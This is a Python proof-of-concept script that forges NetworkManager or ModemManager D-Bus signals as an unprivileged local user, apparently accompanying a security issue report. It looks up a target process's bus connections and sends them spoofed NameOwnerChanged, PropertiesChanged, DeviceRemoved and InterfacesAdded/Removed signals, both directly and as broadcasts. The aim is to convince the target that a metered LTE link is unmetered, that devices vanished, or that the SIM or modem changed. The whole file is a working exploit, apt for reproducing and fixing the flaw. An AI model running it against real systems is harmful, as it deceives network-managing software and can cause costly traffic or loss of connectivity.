#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A local user forging NetworkManager's or ModemManager's signals, as issue 22 describes: run as nobody on a bus
with Debian's system-bus policy, which lets any user send any signal.

Usage: forge.py networkmanager|modemmanager BUS_ADDRESS TARGET_PID ROUNDS

For NetworkManager, the forgeries name each device NetworkManager lists (anyone may read its Devices); for
ModemManager, the first modem and SIM objects (the stand-in's numbering).

Finds the connections of process TARGET_PID (ListNames, then GetConnectionUnixProcessID), then sends ROUNDS times
each forgery below twice: addressed to each such connection (a unicast, delivered whatever its match rules say) and
as a broadcast. Ends with a round trip to the bus daemon, so every signal has reached it (and the target's queue)
before it prints "sent N to TARGETS as UNIQUE_NAME" and exits.
"""
import sys

import dbus
import dbus.lowlevel

DBUS = "org.freedesktop.DBus"
PROPS = "org.freedesktop.DBus.Properties"
NM = "org.freedesktop.NetworkManager"
MM = "org.freedesktop.ModemManager1"
OBJECT_MANAGER = "org.freedesktop.DBus.ObjectManager"


def name_owner_changed(name, owner, forger):
    """The bus daemon's NameOwnerChanged, claimed by a peer: the service stopping, then the forger taking over."""
    return [("/org/freedesktop/DBus", DBUS, "NameOwnerChanged", "sss", [name, owner, ""]),
            ("/org/freedesktop/DBus", DBUS, "NameOwnerChanged", "sss", [name, "", forger])]


def networkmanager(bus, owner, forger):
    # NetworkManager lets anyone read its properties: its device list.
    devices = bus.get_object(NM, "/org/freedesktop/NetworkManager").Get(NM, "Devices", dbus_interface=PROPS)
    # The metered LTE link is not metered (NM_METERED_NO)...
    metered_no = [(device, PROPS, "PropertiesChanged", "sa{sv}as",
                   ["org.freedesktop.NetworkManager.Device", {"Metered": dbus.UInt32(2, variant_level=1)}, []])
                  for device in devices]
    # ... or NetworkManager no longer knows the device: either way, believed, the round ends with a cheap link.
    removed = [("/org/freedesktop/NetworkManager", NM, "DeviceRemoved", "o", [dbus.ObjectPath(device)])
               for device in devices]
    return name_owner_changed(NM, owner, forger) + metered_no + removed


def modemmanager(bus, owner, forger):
    modem = "/org/freedesktop/ModemManager1/Modem/0"
    other_modem = "/org/freedesktop/ModemManager1/Modem/7"
    ports = dbus.Array([dbus.Struct(("wwan0", dbus.UInt32(2)))], signature="(su)", variant_level=1)
    return name_owner_changed(MM, owner, forger) + [
        # The SIM in the modem is another subscriber's.
        ("/org/freedesktop/ModemManager1/SIM/0", PROPS, "PropertiesChanged", "sa{sv}as",
         ["org.freedesktop.ModemManager1.Sim",
          {"SimIdentifier": dbus.String("8949000000000000666", variant_level=1),
           "Imsi": dbus.String("001010000000666", variant_level=1)}, []]),
        # The modem's SIM moved to an object that does not exist.
        (modem, PROPS, "PropertiesChanged", "sa{sv}as",
         ["org.freedesktop.ModemManager1.Modem",
          {"Sim": dbus.ObjectPath("/org/freedesktop/ModemManager1/SIM/99", variant_level=1)}, []]),
        # Another modem claims wwan0, without a SIM.
        ("/org/freedesktop/ModemManager1", OBJECT_MANAGER, "InterfacesAdded", "oa{sa{sv}}",
         [dbus.ObjectPath(other_modem),
          {"org.freedesktop.ModemManager1.Modem":
           {"Ports": ports, "Sim": dbus.ObjectPath("/", variant_level=1),
            "EquipmentIdentifier": dbus.String("000000000000666", variant_level=1)}}]),
        # The modem is gone.
        ("/org/freedesktop/ModemManager1", OBJECT_MANAGER, "InterfacesRemoved", "oas",
         [dbus.ObjectPath(modem), ["org.freedesktop.ModemManager1.Modem"]]),
    ]


def main():
    kind, address, target_pid, rounds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    bus = dbus.bus.BusConnection(address)
    driver = dbus.Interface(bus.get_object(DBUS, "/org/freedesktop/DBus"), DBUS)
    me = bus.get_unique_name()
    targets = [name for name in driver.ListNames()
               if name.startswith(":") and name != me and driver.GetConnectionUnixProcessID(name) == target_pid]
    if not targets:
        print("no connection of pid %d on the bus" % target_pid, flush=True)
        sys.exit(1)
    owner = driver.GetNameOwner(NM if kind == "networkmanager" else MM)
    forgeries = (networkmanager if kind == "networkmanager" else modemmanager)(bus, owner, me)
    sent = 0
    for _ in range(rounds):
        for path, interface, member, signature, body in forgeries:
            for destination in targets + [None]:
                message = dbus.lowlevel.SignalMessage(path, interface, member)
                if destination:
                    message.set_destination(destination)
                message.append(signature=signature, *body)
                bus.send_message(message)
                sent += 1
    bus.flush()
    driver.GetId()  # a round trip: the daemon has routed every signal above
    print("sent %d to %s as %s" % (sent, " ".join(targets), me), flush=True)


if __name__ == "__main__":
    main()
